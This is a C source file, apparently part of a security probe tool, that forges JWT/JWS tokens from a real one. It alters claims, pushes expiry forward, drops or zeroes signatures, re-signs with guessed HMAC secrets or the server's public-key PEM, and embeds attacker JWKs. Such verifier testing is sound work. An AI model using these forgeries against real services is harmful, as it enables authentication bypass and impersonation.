/*
 * forge.c - attacker tokens made from a real compact JWS (forge.h). The
 * JOSE module signs only with keys it accepts; an attacker's guessed HMAC
 * secret may be empty or short, so HS256 is computed here with OpenSSL's
 * one-shot HMAC rather than through an af_key.
 */
#include "config.h"

#include <stdlib.h>
#include <string.h>

#include <openssl/evp.h>
#include <openssl/hmac.h>

#include "authflow/buf.h"
#include "authflow/jose.h"
#include "authflow/util.h"
#include "probe/forge.h"

/* The parts of a compact JWS: text as received, and header and claims
 * decoded (owned). */
struct jws_parts {
    const char *seg[3];
    size_t len[3];
    json_t *header;
    json_t *claims;
};

static void parts_clear(struct jws_parts *p)
{
    json_decref(p->header);
    json_decref(p->claims);
    memset(p, 0, sizeof(*p));
}

static json_t *decode_object(const char *s, size_t len)
{
    struct af_buf b;
    json_t *v = NULL;
    af_buf_init(&b, AF_JWS_MAX_LEN);
    if (af_b64url_decode(&b, s, len) == AF_OK)
        v = json_loadb(af_buf_str(&b), b.len, JSON_REJECT_DUPLICATES, NULL);
    af_buf_free(&b);
    if (v != NULL && !json_is_object(v)) {
        json_decref(v);
        v = NULL;
    }
    return v;
}

static af_rc split(const char *tok, struct jws_parts *p, struct af_err *err)
{
    const char *d1, *d2;
    memset(p, 0, sizeof(*p));
    if (strlen(tok) > AF_JWS_MAX_LEN)
        return AF_ERR_SET(err, AF_ERR_PARSE, "the token is longer than %d bytes", AF_JWS_MAX_LEN);
    d1 = strchr(tok, '.');
    d2 = d1 ? strchr(d1 + 1, '.') : NULL;
    if (d1 == NULL || d2 == NULL || strchr(d2 + 1, '.') != NULL)
        return AF_ERR_SET(err, AF_ERR_PARSE,
                          "the token is not a compact JWS (three parts separated by dots): "
                          "nothing to forge from");
    p->seg[0] = tok;
    p->len[0] = (size_t)(d1 - tok);
    p->seg[1] = d1 + 1;
    p->len[1] = (size_t)(d2 - d1 - 1);
    p->seg[2] = d2 + 1;
    p->len[2] = strlen(d2 + 1);
    p->header = decode_object(p->seg[0], p->len[0]);
    p->claims = decode_object(p->seg[1], p->len[1]);
    if (p->header == NULL || p->claims == NULL) {
        parts_clear(p);
        return AF_ERR_SET(err, AF_ERR_PARSE,
                          "the token's %s is not base64url-encoded JSON: nothing to forge from",
                          p->header == NULL ? "header" : "payload");
    }
    return AF_OK;
}

/* apply: set (or, for null, remove) each member of set in obj; true when
 * anything changed. */
static bool apply(json_t *obj, const json_t *set)
{
    const char *k;
    json_t *v;
    bool changed = false;
    json_object_foreach((json_t *)set, k, v)
    {
        if (json_is_null(v))
            changed = json_object_del(obj, k) == 0 || changed;
        else if (!json_equal(json_object_get(obj, k), v))
            changed = json_object_set(obj, k, v) == 0 || changed;
    }
    return changed;
}

/* shift: add seconds to numeric claims (a missing one is set to now plus
 * the shift, so "exp" can be pushed into the future of a token without
 * one). */
static bool shift(json_t *claims, const json_t *by)
{
    const char *k;
    json_t *v;
    bool changed = false;
    json_object_foreach((json_t *)by, k, v)
    {
        json_t *cur = json_object_get(claims, k);
        json_int_t base = json_is_integer(cur) ? json_integer_value(cur)
                          : json_is_real(cur)  ? (json_int_t)json_real_value(cur)
                                               : (json_int_t)af_now();
        if (json_object_set_new(claims, k, json_integer(base + json_integer_value(v))) == 0)
            changed = true;
    }
    return changed;
}

static af_rc encode_json(struct af_buf *out, const json_t *v)
{
    char *s = json_dumps(v, JSON_COMPACT | JSON_PRESERVE_ORDER);
    af_rc rc;
    if (s == NULL)
        return AF_ERR_NOMEM;
    rc = af_b64url_encode(out, (const unsigned char *)s, strlen(s));
    free(s);
    return rc;
}

/* zero_len: the signature length of alg with every byte zero: r = s = 0
 * for ECDSA (RFC 7518 §3.4 fixes R || S at twice the curve size). */
static size_t zero_len(const char *alg)
{
    if (alg != NULL && strcmp(alg, "ES384") == 0)
        return 96;
    if (alg != NULL && strcmp(alg, "ES512") == 0)
        return 132;
    return 64;
}

static af_rc hs256(struct af_buf *out, const unsigned char *key, size_t klen, const char *input,
                   size_t ilen)
{
    unsigned char mac[EVP_MAX_MD_SIZE];
    unsigned int mlen = 0;
    static const unsigned char empty[1] = {0};
    if (HMAC(EVP_sha256(), klen ? key : empty, (int)klen, (const unsigned char *)input, ilen, mac,
             &mlen) == NULL)
        return AF_ERR_CRYPTO;
    return af_b64url_encode(out, mac, mlen);
}

/* pem_of: the public key of jwk as PEM text. Caller frees. */
static af_rc pem_of(const json_t *jwk, char **out, struct af_err *err)
{
    struct af_key *key = NULL;
    af_rc rc = af_key_from_jwk(jwk, &key, err);
    if (rc == AF_OK)
        rc = af_key_public_pem(key, out);
    af_key_free(key);
    return rc;
}

af_rc af_forge_check(const json_t *spec, struct af_err *err)
{
    static const char *const keys[] = {"from", "header", "claims", "shift", "signature", "sign"};
    const json_t *sign = json_object_get(spec, "sign"), *sig = json_object_get(spec, "signature");
    const char *k;
    json_t *v;
    size_t i;
    if (!json_is_object(spec))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge must be an object");
    json_object_foreach((json_t *)spec, k, v)
    {
        bool known = false;
        for (i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
            known = known || strcmp(k, keys[i]) == 0;
        if (!known)
            return AF_ERR_SET(err, AF_ERR_INVALID,
                              "forge: unknown key \"%s\" (from, header, claims, shift, signature, "
                              "sign)",
                              k);
    }
    if (!json_is_string(json_object_get(spec, "from")))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.from: the token, a template string");
    if (json_object_get(spec, "header") && !json_is_object(json_object_get(spec, "header")))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.header must be an object");
    if (json_object_get(spec, "claims") && !json_is_object(json_object_get(spec, "claims")))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.claims must be an object");
    if (json_object_get(spec, "shift")) {
        if (!json_is_object(json_object_get(spec, "shift")))
            return AF_ERR_SET(err, AF_ERR_INVALID, "forge.shift must be an object");
        json_object_foreach(json_object_get(spec, "shift"), k, v)
        {
            if (!json_is_integer(v))
                return AF_ERR_SET(err, AF_ERR_INVALID,
                                  "forge.shift.%s must be an integer (seconds)", k);
        }
    }
    if (sig != NULL && (!json_is_string(sig) || (strcmp(json_string_value(sig), "keep") != 0 &&
                                                 strcmp(json_string_value(sig), "drop") != 0 &&
                                                 strcmp(json_string_value(sig), "zero") != 0)))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.signature must be keep, drop or zero");
    if (sign != NULL) {
        if (sig != NULL)
            return AF_ERR_SET(err, AF_ERR_INVALID, "forge: give signature or sign, not both");
        if (!json_is_object(sign) || json_object_size(sign) != 1 ||
            !(json_is_string(json_object_get(sign, "hs256")) ||
              json_object_get(sign, "hs256_pem_of") != NULL ||
              json_is_string(json_object_get(sign, "embedded"))))
            return AF_ERR_SET(err, AF_ERR_INVALID,
                              "forge.sign is one of {\"hs256\": SECRET}, {\"hs256_pem_of\": JWK}, "
                              "{\"embedded\": \"RS256\" | \"ES256\"}");
    }
    return AF_OK;
}

/* sign_with: the header's alg follows the key (unless the spec's header
 * names one), then header, claims and the signature in b. */
static af_rc sign_with(const json_t *spec, struct jws_parts *p, const json_t *sign, bool keep_alg,
                       struct af_buf *b, struct af_err *err)
{
    const char *secret = json_string_value(json_object_get(sign, "hs256"));
    const char *emb = json_string_value(json_object_get(sign, "embedded"));
    char *pem = NULL, *jws = NULL;
    struct af_key *key = NULL;
    json_t *jwk = NULL;
    size_t hl;
    af_alg alg;
    af_rc rc = AF_OK;

    if (emb != NULL) {
        rc = af_alg_parse(emb, &alg);
        if (rc != AF_OK || (alg != AF_ALG_RS256 && alg != AF_ALG_ES256)) {
            rc =
                AF_ERR_SET(err, AF_ERR_INVALID, "forge.sign.embedded: RS256 or ES256, not %s", emb);
            goto out;
        }
        rc = af_key_generate(alg, &key, err);
        if (rc == AF_OK)
            rc = af_key_public_jwk(key, &jwk);
        if (rc != AF_OK)
            goto out;
        if (!keep_alg)
            json_object_set_new(p->header, "alg", json_string(emb));
        json_object_set(p->header, "jwk", jwk);
        apply(p->header, json_object_get(spec, "header"));
        {
            /* af_jws_sign_as_is encodes the payload bytes it is given */
            char *c = json_dumps(p->claims, JSON_COMPACT | JSON_PRESERVE_ORDER);
            if (c == NULL) {
                rc = AF_ERR_NOMEM;
                goto out;
            }
            rc = af_jws_sign_as_is(key, p->header, c, strlen(c), &jws, err);
            free(c);
        }
        if (rc == AF_OK)
            rc = af_buf_adds(b, jws);
        goto out;
    }
    if (json_object_get(sign, "hs256_pem_of") != NULL) {
        rc = pem_of(json_object_get(sign, "hs256_pem_of"), &pem, err);
        if (rc != AF_OK) {
            rc = AF_ERR_SET(err, AF_ERR_PARSE, "forge.sign.hs256_pem_of: not a public key: %s",
                            err->msg);
            goto out;
        }
        secret = pem;
    }
    if (!keep_alg)
        json_object_set_new(p->header, "alg", json_string("HS256"));
    apply(p->header, json_object_get(spec, "header"));
    rc = encode_json(b, p->header);
    if (rc == AF_OK)
        rc = af_buf_addc(b, '.');
    if (rc == AF_OK)
        rc = encode_json(b, p->claims);
    hl = b->len;
    if (rc == AF_OK)
        rc = af_buf_addc(b, '.');
    if (rc == AF_OK)
        rc = hs256(b, (const unsigned char *)secret, strlen(secret), af_buf_str(b), hl);
out:
    free(pem);
    free(jws);
    json_decref(jwk);
    af_key_free(key);
    return rc;
}

af_rc af_forge(const json_t *spec, char **out, struct af_err *err)
{
    const json_t *hset = json_object_get(spec, "header"), *sign = json_object_get(spec, "sign");
    const char *sig = json_string_value(json_object_get(spec, "signature"));
    struct jws_parts p;
    struct af_buf b;
    bool hchanged, cchanged;
    af_rc rc;

    *out = NULL;
    rc = af_forge_check(spec, err);
    if (rc != AF_OK)
        return rc;
    rc = split(json_string_value(json_object_get(spec, "from")), &p, err);
    if (rc != AF_OK)
        return rc;
    af_buf_init(&b, 2 * AF_JWS_MAX_LEN);
    cchanged = apply(p.claims, json_object_get(spec, "claims"));
    cchanged = shift(p.claims, json_object_get(spec, "shift")) || cchanged;
    if (sign != NULL) {
        rc = sign_with(spec, &p, sign, json_object_get(hset, "alg") != NULL, &b, err);
        goto out;
    }
    hchanged = apply(p.header, hset);
    rc = hchanged ? encode_json(&b, p.header) : af_buf_add(&b, p.seg[0], p.len[0]);
    if (rc == AF_OK)
        rc = af_buf_addc(&b, '.');
    if (rc == AF_OK)
        rc = cchanged ? encode_json(&b, p.claims) : af_buf_add(&b, p.seg[1], p.len[1]);
    if (rc == AF_OK)
        rc = af_buf_addc(&b, '.');
    if (rc != AF_OK || (sig != NULL && strcmp(sig, "drop") == 0))
        goto out;
    if (sig != NULL && strcmp(sig, "zero") == 0) {
        const char *alg = json_string_value(json_object_get(p.header, "alg"));
        unsigned char zero[132];
        memset(zero, 0, sizeof(zero));
        rc = af_b64url_encode(&b, zero, zero_len(alg));
    } else {
        rc = af_buf_add(&b, p.seg[2], p.len[2]); /* the real signature, kept */
    }
out:
    if (rc == AF_OK) {
        *out = af_buf_detach(&b);
        if (*out == NULL)
            rc = AF_ERR_NOMEM;
    }
    af_buf_free(&b);
    parts_clear(&p);
    return rc;
}
